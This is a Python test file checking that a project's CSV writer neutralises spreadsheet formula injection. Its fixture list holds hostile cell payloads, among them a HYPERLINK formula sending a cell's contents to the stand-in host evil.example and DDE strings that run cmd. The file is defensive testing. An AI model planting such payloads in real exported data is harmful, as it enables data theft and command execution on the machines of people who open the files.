"""CSV injection (OWASP): text cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import ast
from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

import crimecast
from crimecast.data.spreadsheet import FORMULA_PREFIXES, neutralise_formulas, write_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Central")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formula_cells_get_a_leading_quote_and_numbers_stay() -> None:
    frame = pl.DataFrame({"region": [*ATTACKS, "Central", "-118.25", "+3", None],
                          "score": [0.5] * 10, "lon": [-118.25] * 10})
    out = neutralise_formulas(frame)
    assert out["region"].to_list() == [*("'" + a for a in ATTACKS), "Central", "-118.25", "+3",
                                       None]
    assert out["score"].to_list() == frame["score"].to_list()
    assert out["lon"].dtype == pl.Float64


def test_written_csv_holds_no_cell_starting_with_a_formula_character(tmp_path: Path) -> None:
    frame = pl.DataFrame({"region": ATTACKS, "rank": range(len(ATTACKS))})
    path = tmp_path / "boxes.csv"
    write_csv(frame, path)
    back = pl.read_csv(path, infer_schema=False)
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in back["region"].to_list())
    assert write_csv(frame) == path.read_bytes().decode()


@given(st.lists(st.text(max_size=12), min_size=1, max_size=20))
def test_neutralising_is_idempotent_and_only_prefixes(cells: list[str]) -> None:
    frame = pl.DataFrame({"cell": cells}, schema={"cell": pl.String})
    once = neutralise_formulas(frame)
    assert neutralise_formulas(once).equals(once)
    for before, after in zip(cells, once["cell"].to_list(), strict=True):
        assert after in (before, "'" + before)
        assert not after.startswith(FORMULA_PREFIXES) or after.lstrip("+-").replace(
            ".", "", 1).isdigit() or after[1:].replace(".", "", 1).isdigit()


def test_every_csv_crimecast_writes_goes_through_the_safe_writer() -> None:
    """No ``.write_csv(`` call in the source outside crimecast.data.spreadsheet."""
    root = Path(crimecast.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("write_csv", "to_csv"):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []
